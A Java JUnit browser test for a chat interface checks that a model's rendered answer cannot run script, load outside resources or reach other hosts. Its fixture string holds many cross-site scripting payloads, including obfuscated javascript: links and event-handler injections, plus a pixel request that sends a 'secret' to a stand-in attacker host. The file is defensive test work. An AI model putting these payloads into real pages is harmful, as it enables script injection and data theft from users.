package infernum.server.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import infernum.server.TestServer;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** Whatever a model writes: nothing runs, nothing is loaded, nobody else is asked. */
@Tag("browser")
class PageSafetyTest {
  private static final String HOSTILE =
      """
      <script>window.owned = 1</script>
      <img src="https://evil.example.com/a.png" onerror="window.owned = 2">
      <iframe srcdoc="<script>parent.owned = 3</script>"></iframe>

      ![pixel](https://evil.example.com/pixel.png?q=secret) [run](javascript:window.owned=4)
      [data](data:text/html,<script>window.owned=5</script>) <a href="javascript:window.owned=6">x</a>
      [ja](&#106;avascript:window.owned=7) [tab](java\tscript:window.owned=8) <javascript:window.owned=9>
      [fine](https://example.com/ "a\\" onmouseover=window.owned=10")

      ```html" onmouseover="window.owned=11
      <script>window.owned = 12</script>
      ```

      | a | b |
      |---|---|
      | <svg onload=window.owned=13> | <b>bold</b><br>next |

      <style>body { background: url(https://evil.example.com/css) }</style>
      <link rel=stylesheet href=https://evil.example.com/x.css> <base href=https://evil.example.com/>
      <meta http-equiv=refresh content="0;url=https://evil.example.com">
      &lt;img src=x onerror=window.owned=14&gt; `<img src=x onerror=window.owned=15>`
      """;

  @Test
  void anAnswerCanNeitherRunNorLoadAnything() {
    try (Browser browser = Browser.start();
        Paced model = new Paced()) {
      TestServer server = model.serve();
      browser.openAnew(server.url());
      model.say(HOSTILE);
      browser.requests();
      browser.complaints();
      browser.say("Do your worst <script>window.owned = 20</script>");
      browser.labelled("Regenerate answer");
      browser.seeText(".answer .prose", "window.owned = 12");
      browser.seeText(".answer", "<script>window.owned = 1</script>");
      for (String label : List.of("run", "ja", "data")) {
        assertTrue(
            browser.find(".answer a").stream().noneMatch(a -> a.getText().equals(label)), label);
      }
      browser.driver.executeScript(
          "for (const e of document.querySelectorAll('.answer *')) e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))");
      assertEquals(null, browser.driver.executeScript("return window.owned"));
      assertEquals(
          0,
          browser
              .find(".message :is(script, img, iframe, style, link, base, meta, object)")
              .size());
      List<String> hrefs =
          browser.find(".answer a").stream().map(a -> a.getAttribute("href")).toList();
      assertTrue(hrefs.contains("https://example.com/"), hrefs.toString());
      assertTrue(hrefs.stream().allMatch(href -> href.startsWith("https://")), hrefs.toString());
      assertTrue(
          browser.find(".answer a").stream()
              .allMatch(a -> a.getAttribute("rel").contains("noopener")));
      assertEquals(List.of(), browser.complaints());
      onlyAsks(browser.requests(), server);

      browser.open(server.url());
      browser.find(".entry-title").getFirst().click();
      browser.seeText(".answer .prose", "window.owned = 12");
      assertEquals(null, browser.driver.executeScript("return window.owned"));
      onlyAsks(browser.requests(), server);
    }
  }

  private static void onlyAsks(List<JsonNode> requests, TestServer server) {
    assertTrue(requests.size() > 0);
    assertEquals(
        List.of(),
        requests.stream()
            .map(request -> request.path("url").asString())
            .filter(url -> !url.startsWith(server.url() + "/"))
            .toList());
  }

  @Test
  void thePolicyHoldsAgainstThePageItself() {
    try (Browser browser = Browser.start();
        Paced model = new Paced()) {
      TestServer server = model.serve();
      browser.openAnew(server.url());
      assertEquals(
          "TypeError",
          browser.driver.executeScript(
              "try { document.body.innerHTML = '<img src=x>'; return 'set' } catch (e) { return e.name }"));
      assertEquals(
          "refused",
          browser.driver.executeAsyncScript(
              "const end = arguments[0]; fetch('https://example.com/').then(() => end('sent'), () => end('refused'))"));
      assertTrue(
          browser.complaints().stream().anyMatch(said -> said.contains("Content Security Policy")));
    }
  }
}
